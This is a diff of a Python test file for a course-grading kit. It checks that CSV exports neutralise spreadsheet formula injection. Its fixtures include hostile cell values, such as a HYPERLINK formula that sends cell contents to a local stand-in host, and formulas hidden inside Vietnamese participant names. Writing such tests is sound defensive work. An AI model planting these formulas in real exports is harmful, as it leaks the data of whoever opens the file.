@@ -22,11 +22,12 @@ import pandas as pd
 import pytest
 
 from ocopkit import spreadsheet
+from ocopkit.spreadsheet import FORMULA_START, safe_cell
 from ocopkit.trainer import cli, export, ledger
 from ocopkit.trainer.course import make_working_course
-from ocopkit.spreadsheet import FORMULA_START, safe_cell
 
-from conftest import REPO  # noqa: E402
+from conftest import REPO
+
 # Text that a spreadsheet would run, as a participant could type it: name, id, reason, a tool's box.
 ATTACKS = [
     '=HYPERLINK("http://127.0.0.1/?d="&A1,"Bấm vào đây")',
@@ -38,7 +39,7 @@ ATTACKS = [
     "\r=1+1",
     "＝1+1",
 ]
-INNER = ["Nguyễn Văn An;=1+1", "Lê Thị Hồng\n=1+1", "Bùi Đức; \"@SUM(A1)"]
+INNER = ["Nguyễn Văn An;=1+1", "Lê Thị Hồng\n=1+1", 'Bùi Đức; "@SUM(A1)']
 VIETNAMESE = ["Hoàng Thị Hoa, HTX Bưởi", "Đặng Ngọc Yến", "Trần Văn Đức"]
 
 
@@ -106,9 +107,20 @@ class TestSafeCell:
 def hostile_grade_rows() -> list[dict]:
     """Export rows whose text columns hold every attack, beside real negative and fractional numbers."""
     texts = ATTACKS + INNER + VIETNAMESE
-    return [{"participant_id": text, "name": text, "province": "Yên Bái", "organisation_type": text,
-             "assignment": "topic08", "score": score, "max_score": 12, "status": "failed", "reason": text}
-            for text, score in zip(texts, [-2, 7, 10.25, 0, -0.5] * 4)]
+    return [
+        {
+            "participant_id": text,
+            "name": text,
+            "province": "Yên Bái",
+            "organisation_type": text,
+            "assignment": "topic08",
+            "score": score,
+            "max_score": 12,
+            "status": "failed",
+            "reason": text,
+        }
+        for text, score in zip(texts, [-2, 7, 10.25, 0, -0.5] * 4)
+    ]
 
 
 class TestGradeExport:
@@ -129,8 +141,12 @@ class TestGradeExport:
 
     def test_ocop_export_of_a_course_with_hostile_participants(self, tmp_path):
         course = make_working_course(tmp_path / "course", REPO)
-        people = [SimpleNamespace(id=f"hv{i:02d}", name=name, province="Hà Tĩnh", district="",
-                                  organisation_type="cooperative", email="") for i, name in enumerate(ATTACKS)]
+        people = [
+            SimpleNamespace(
+                id=f"hv{i:02d}", name=name, province="Hà Tĩnh", district="", organisation_type="cooperative", email=""
+            )
+            for i, name in enumerate(ATTACKS)
+        ]
         ledger.save_participants(course, people)
         ledger.record(course, ledger.Grading("topic08", "=1+1", "failed", "-the notebook is damaged", None, None))
         (course / "submitted" / "@SUM(A1)" / "topic08").mkdir(parents=True)  # an id from a folder name
@@ -147,9 +163,21 @@ class TestGradeExport:
         assert read_back(items)[0][0] == list(export.ITEM_COLUMNS)
 
     def test_item_rows_with_hostile_text(self, tmp_path):
-        rows = [{"participant_id": attack, "province": "Đắk Lắk", "organisation_type": "", "assignment": "topic08",
-                 "notebook": "topic08", "cell": attack, "cell_type": "code", "score": -1, "max_score": 1,
-                 "passed": 0} for attack in ATTACKS]
+        rows = [
+            {
+                "participant_id": attack,
+                "province": "Đắk Lắk",
+                "organisation_type": "",
+                "assignment": "topic08",
+                "notebook": "topic08",
+                "cell": attack,
+                "cell_type": "code",
+                "score": -1,
+                "max_score": 1,
+                "passed": 0,
+            }
+            for attack in ATTACKS
+        ]
         read, frame, _raw = read_back(export.write_csv(rows, tmp_path / "items.csv", export.ITEM_COLUMNS))
         assert_no_formula(read, frame)
         assert list(frame["score"]) == [-1] * len(ATTACKS)
@@ -178,10 +206,10 @@ class TestWidgetExports:
         from ocopkit.widgets.tourism_coop import TourismCoopCalculator
 
         tool = TourismCoopCalculator()
-        tool.fields["name_0"].value = "=HYPERLINK(\"http://x\")"
+        tool.fields["name_0"].value = '=HYPERLINK("http://x")'
         tool.fields["name_1"].value = "@Hộ Lò Văn Pấng"
         frame = self.written(tool, tmp_path / "chia.csv")
-        assert {"'=HYPERLINK(\"http://x\")", "'@Hộ Lò Văn Pấng"} <= set(frame.iloc[:, 0])
+        assert {'\'=HYPERLINK("http://x")', "'@Hộ Lò Văn Pấng"} <= set(frame.iloc[:, 0])
 
     def test_post_harvest_stages(self, tmp_path):
         from ocopkit.widgets.postharvest import PostHarvestLossCalculator
@@ -241,7 +269,11 @@ def test_dataset_writer(tmp_path):
 def test_no_other_csv_writer_in_the_package():
     """Every CSV the kit writes goes through ocopkit.spreadsheet: no csv writer, to_csv or BOM file elsewhere."""
     pattern = r'csv\.(writer|DictWriter)|(frame|table|\))\.to_csv\(|"utf-8-sig"\)'
-    found = subprocess.run(["grep", "-rnE", pattern, "src/ocopkit", "datasets/scripts", "--include=*.py"],
-                           cwd=REPO, capture_output=True, text=True).stdout.splitlines()
+    found = subprocess.run(
+        ["grep", "-rnE", pattern, "src/ocopkit", "datasets/scripts", "--include=*.py"],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+    ).stdout.splitlines()
     others = [line for line in found if not line.startswith("src/ocopkit/spreadsheet.py") and "read_text" not in line]
     assert not others, "\n".join(others)
